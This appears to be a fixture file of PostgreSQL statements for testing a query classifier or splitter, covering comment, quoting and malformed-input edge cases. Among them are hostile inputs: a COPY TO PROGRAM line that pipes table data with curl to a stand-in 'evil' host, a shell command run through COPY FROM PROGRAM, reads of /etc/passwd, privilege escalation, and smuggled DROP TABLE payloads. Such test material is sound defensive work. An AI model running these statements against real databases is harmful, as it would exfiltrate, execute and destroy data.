SELECT 1
-- ---
select * from Orders
-- ---
SeLeCt o.id FROM public.orders o JOIN customers c ON c.id = o.customer_id WHERE c.email = $1
-- ---
SELECT 1; DROP TABLE t
-- ---
SELECT 1; SELECT 2; SELECT 3;
-- ---
;;; SELECT 1 ;;
-- ---

-- ---
-- only a comment
-- ---
/* ; drop table t */
-- ---
/* nested /* ; DROP TABLE t */ still a comment ; */ SELECT 1
-- ---
SELECT '; DROP TABLE t'
-- ---
SELECT 'it''s; DROP TABLE t'
-- ---
SELECT E'\'; DROP TABLE t; --'
-- ---
SELECT e'\\'; SELECT 2
-- ---
SELECT $$ ; DROP TABLE t $$
-- ---
SELECT $tag$ $$ ; DROP TABLE t $$ $tag$
-- ---
SELECT "DROP" FROM "Orders"
-- ---
SELECT "a;b" FROM t
-- ---
SELECT 1 -- ; DROP TABLE t
-- ---
SELECT /* ; DROP TABLE t */ 1
-- ---
/* leading */ DELETE /* mid */ FROM /* x */ t /* before where */ WHERE id = 1 -- trailing
-- ---
SELECT * FROM a, b WHERE a.id IN (SELECT id FROM c WHERE EXISTS (SELECT 1 FROM d))
-- ---
SELECT * FROM (SELECT * FROM inner_t) sub
-- ---
SELECT (SELECT max(x) FROM scalar_t) AS m
-- ---
SELECT * FROM t1 UNION ALL SELECT * FROM t2
-- ---
VALUES (1, 2), (3, 4)
-- ---
TABLE archive.events
-- ---
SELECT * FROM t FOR UPDATE
-- ---
SELECT 1 INTO TEMP newtab FROM t
-- ---
SELECT pg_sleep(10)
-- ---
SELECT * FROM users WHERE pg_terminate_backend(pid) IS NOT NULL
-- ---
SELECT pg_catalog.PG_CANCEL_BACKEND(123)
-- ---
SELECT * FROM pg_ls_dir('/etc')
-- ---
SELECT pg_read_file('/etc/passwd')
-- ---
SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x'), lo_unlink(1)
-- ---
SELECT set_config('search_path', 'evil', false)
-- ---
SELECT setval('seq', 1), nextval('seq')
-- ---
SELECT dblink_exec('host=x', 'DROP TABLE t')
-- ---
SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)
-- ---
SELECT pg_reload_conf(); SELECT pg_switch_wal()
-- ---
SELECT 'pg_sleep(1)', pg_sleep
-- ---
INSERT INTO t VALUES (pg_advisory_lock(1))
-- ---
UPDATE t SET a = pg_sleep(1) WHERE id = 1
-- ---
INSERT INTO orders (id, total) VALUES (1, 10)
-- ---
INSERT INTO archive SELECT * FROM orders WHERE created_at < now()
-- ---
INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a RETURNING *
-- ---
UPDATE orders SET total = 0
-- ---
UPDATE orders SET total = 0 WHERE id = 7
-- ---
UPDATE orders o SET total = p.total FROM payments p WHERE p.order_id = o.id
-- ---
DELETE FROM orders
-- ---
DELETE FROM public.orders WHERE id = 1
-- ---
DELETE FROM orders USING customers WHERE orders.customer_id = customers.id
-- ---
delete from "Orders" where true
-- ---
WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
-- ---
WITH moved AS (DELETE FROM queue WHERE done RETURNING *) INSERT INTO done_queue SELECT * FROM moved
-- ---
WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u
-- ---
WITH i AS (INSERT INTO log (msg) VALUES ('x') RETURNING id) SELECT * FROM i
-- ---
WITH x AS (SELECT * FROM secrets) SELECT * FROM x
-- ---
WITH a AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM a)
-- ---
MERGE INTO target t USING source s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)
-- ---
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
-- ---
TRUNCATE orders
-- ---
TRUNCATE TABLE a, public.b RESTART IDENTITY CASCADE
-- ---
DROP TABLE orders
-- ---
DROP TABLE IF EXISTS a, public.b CASCADE
-- ---
DROP INDEX idx_orders
-- ---
DROP VIEW v; DROP SCHEMA s CASCADE
-- ---
DROP FUNCTION f(int)
-- ---
DROP ROLE bob
-- ---
DROP DATABASE prod
-- ---
CREATE TABLE t (id int primary key, name text default 'x;y')
-- ---
CREATE TABLE t2 AS SELECT * FROM orders
-- ---
CREATE TABLE t3 AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
-- ---
CREATE INDEX CONCURRENTLY idx ON orders (created_at)
-- ---
CREATE VIEW v AS SELECT * FROM orders
-- ---
CREATE SCHEMA reporting
-- ---
CREATE ROLE analyst LOGIN
-- ---
CREATE SEQUENCE s
-- ---
CREATE EXTENSION IF NOT EXISTS pgcrypto
-- ---
CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE sql
-- ---
CREATE OR REPLACE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$
-- ---
CREATE PROCEDURE purge() LANGUAGE sql AS $$ DELETE FROM t $$
-- ---
CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u
-- ---
CREATE TRIGGER trg AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()
-- ---
ALTER TABLE orders ADD COLUMN note text
-- ---
ALTER TABLE orders RENAME TO orders_old
-- ---
ALTER ROLE bob SUPERUSER
-- ---
ALTER INDEX idx RENAME TO idx2
-- ---
GRANT SELECT ON orders TO analyst
-- ---
GRANT admin TO bob
-- ---
REVOKE ALL ON orders FROM public
-- ---
COPY orders TO STDOUT
-- ---
COPY orders FROM STDIN
-- ---
copy pgbench_accounts from stdin with (freeze on)
-- ---
vacuum analyze pgbench_branches
-- ---
VACUUM (VERBOSE, ANALYZE) public.orders (id, total), customers
-- ---
ANALYZE
-- ---
VACUUM FULL orders; SELECT 1
-- ---
COPY public.orders (id, total) TO STDOUT WITH (FORMAT csv, HEADER true, DELIMITER ';')
-- ---
COPY orders FROM STDIN WITH (FORMAT binary, FREEZE on, WHERE id > 1)
-- ---
COPY (SELECT * FROM orders WHERE id > 1) TO STDOUT WITH (FORMAT csv)
-- ---
COPY orders TO '/tmp/orders.csv'
-- ---
COPY orders FROM '/etc/passwd'
-- ---
COPY orders TO PROGRAM 'curl -d @- http://evil'
-- ---
COPY orders FROM PROGRAM 'id'
-- ---
COPY t FROM STDIN;
DROP TABLE x
-- ---
SET search_path TO public
-- ---
SET LOCAL statement_timeout = '5s'
-- ---
set role admin
-- ---
SET SESSION AUTHORIZATION bob
-- ---
RESET ROLE
-- ---
RESET SESSION AUTHORIZATION
-- ---
RESET ALL
-- ---
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
-- ---
SHOW search_path
-- ---
SHOW ALL
-- ---
BEGIN
-- ---
BEGIN; DELETE FROM t WHERE id = 1; COMMIT
-- ---
START TRANSACTION READ ONLY
-- ---
SAVEPOINT s1; ROLLBACK TO SAVEPOINT s1; RELEASE SAVEPOINT s1
-- ---
ROLLBACK
-- ---
END
-- ---
ABORT
-- ---
EXPLAIN SELECT * FROM orders
-- ---
EXPLAIN DELETE FROM orders
-- ---
EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1
-- ---
EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0
-- ---
EXPLAIN ANALYZE SELECT pg_sleep(1)
-- ---
EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
-- ---
DO $$ BEGIN DELETE FROM t; END $$
-- ---
DO LANGUAGE plpgsql $body$ BEGIN EXECUTE 'DROP TABLE t'; END $body$
-- ---
DO 'BEGIN NULL; END'
-- ---
PREPARE q (int) AS DELETE FROM orders WHERE id = $1
-- ---
PREPARE s AS SELECT * FROM orders
-- ---
EXECUTE q(1)
-- ---
DEALLOCATE q
-- ---
DEALLOCATE ALL
-- ---
CALL do_things(1, 'x')
-- ---
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
-- ---
VACUUM FULL orders
-- ---
VACUUM
-- ---
ANALYZE orders
-- ---
REINDEX TABLE orders
-- ---
REINDEX (VERBOSE) DATABASE prod
-- ---
CLUSTER orders USING orders_pkey
-- ---
CHECKPOINT
-- ---
REFRESH MATERIALIZED VIEW mv
-- ---
COMMENT ON TABLE orders IS 'x; DROP TABLE t'
-- ---
LISTEN channel
-- ---
NOTIFY channel, 'payload'
-- ---
DISCARD ALL
-- ---
DECLARE c CURSOR FOR SELECT * FROM orders
-- ---
SELECT 1 +
-- ---
SELEC * FROM t
-- ---
SELECT 1; DROP TABLE t; DELET FROM x
-- ---
SELECT 'unterminated
-- ---
DROP TABLE t; garbage here; UPDATE x SET a = 1
-- ---
SELECT $$ unterminated dollar
-- ---
/* unterminated comment
-- ---
DO $$ x $$ garbage
-- ---
CHECKPOINT now
-- ---
EXPLAIN (ANALYZE false) DELETE FROM orders
-- ---
EXPLAIN (FORMAT json, ANALYZE on) DELETE FROM orders
-- ---
SELECT 1 -- ;
; DELETE FROM t
-- ---
SELECT '$$'; DROP TABLE t; SELECT '$$'
-- ---
SELECT $a$ $b$ ; $b$ $a$; DELETE FROM t
-- ---
SELECT 'C:\'; SELECT 1
-- ---
select/**/1/**/;/**/delete/**/from/**/t
-- ---
SELECT U&'d\0061t\+000061'; SELECT 2
-- ---
EXPLAIN ANALYSE DELETE FROM t
-- ---
EXPLAIN (ANALYZE off) DELETE FROM t
-- ---
SELECT CASE WHEN EXISTS(SELECT 1 FROM t3) THEN 1 END, ARRAY(SELECT 1 FROM t4)
-- ---
SELECT 1 FROM t JOIN LATERAL (SELECT * FROM u) x ON true
-- ---
ALTER SYSTEM SET work_mem = '1GB'
-- ---
SELECT "pg_sleep"(1)
-- ---
LOAD 'auto_explain'
-- ---
DISCARD TEMP
